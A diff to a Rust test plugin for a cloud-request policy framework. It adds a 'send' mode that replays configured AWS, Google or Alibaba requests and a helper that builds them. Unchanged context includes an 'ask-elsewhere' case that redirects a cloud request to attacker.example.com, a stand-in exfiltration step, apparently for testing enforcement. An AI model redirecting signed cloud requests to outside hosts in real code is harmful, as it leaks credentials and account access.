@@ -1,13 +1,16 @@
-//! A plugin that asks clouds: its option `Do` names what for. `Canary` is a text, each of whose bytes is given inverted and in
+//! A plugin that asks clouds: its option `Do` names what for; `send` is for the requests in `Requests`, one after the other, each an object
+//! with the contract's names, and fails with the last answer. `Canary` is a text, each of whose bytes is given inverted and in
 //! hexadecimal digits, which it looks for in all of its memory afterwards.
 
 use std::time::Duration;
 
 use flannel_backend::cloud::{self, Method, Provider, Request, RequiredOperation};
+use flannel_backend::serde_json::{Value, from_value};
 use flannel_backend::{Config, Lease, Node, PeerId, Policy, Registration};
 
 struct Asker {
     deed: String,
+    requests: Vec<Value>,
     canary: Vec<u8>,
 }
 
@@ -18,7 +21,8 @@ impl Policy for Asker {
 
     fn register(node: &Node, config: &Config) -> Result<(Self, Registration), String> {
         let text = |name| Ok::<_, String>(config.text(name)?.unwrap_or_default().to_owned());
-        let policy = Self { deed: text("Do")?, canary: inverted(&text("Canary")?) };
+        let requests = config.get("Requests").and_then(Value::as_array).cloned().unwrap_or_default();
+        let policy = Self { deed: text("Do")?, requests, canary: inverted(&text("Canary")?) };
         if policy.deed == "ask-early" {
             cloud::send(&describe())?;
         }
@@ -52,6 +56,14 @@ impl Policy for Asker {
             "ask-elsewhere" => {
                 cloud::send(&describe().region("attacker.example.com/"))?;
                 Ok(None)
+            }
+            "send" => {
+                let mut last = String::new();
+                for wish in &self.requests {
+                    let answer = cloud::send(&request(wish)?)?;
+                    last = format!("{} {}", answer.status, answer.body);
+                }
+                Err(last)
             }
             "ask-too-often" => {
                 for _ in 0..100 {
@@ -97,6 +109,42 @@ fn inverted(hexadecimal: &str) -> Vec<u8> {
     let digits: Vec<u8> =
         hexadecimal.chars().filter_map(|c| c.to_digit(16)).filter_map(|n| u8::try_from(n).ok()).collect();
     digits.chunks_exact(2).map(|pair| pair[0] << 4 | pair[1]).collect()
+}
+
+/// A request as the option has it: an action with `action` and `parameters`, or a call with `method`, `path`, `query` and `body`.
+fn request(wish: &Value) -> Result<Request, String> {
+    let text = |name: &str| wish[name].as_str().unwrap_or_default();
+    let provider = match text("provider") {
+        "aws" => Provider::Aws,
+        "google" => Provider::Google,
+        "alibaba" => Provider::Alibaba,
+        other => return Err(format!("provider: {other:?}")),
+    };
+    let pairs = |name: &str| from_value::<Vec<(String, String)>>(wish[name].clone()).unwrap_or_default();
+    let (service, version) = (text("service"), text("version"));
+    let (mut request, parameters) = match text("action") {
+        "" => {
+            let method = match text("method") {
+                "POST" => Method::Post,
+                "PUT" => Method::Put,
+                "PATCH" => Method::Patch,
+                "DELETE" => Method::Delete,
+                _ => Method::Get,
+            };
+            (Request::rest(provider, service, version, method, text("path")), pairs("query"))
+        }
+        action => (Request::action(provider, service, version, action, &[]), pairs("parameters")),
+    };
+    for (name, value) in &parameters {
+        request = request.query(&[(name, value)]);
+    }
+    if let Some(body) = wish["body"].as_str() {
+        request = request.body(body);
+    }
+    if let Some(region) = wish["region"].as_str() {
+        request = request.region(region);
+    }
+    Ok(request)
 }
 
 fn action(service: &str, name: &str) -> Request {
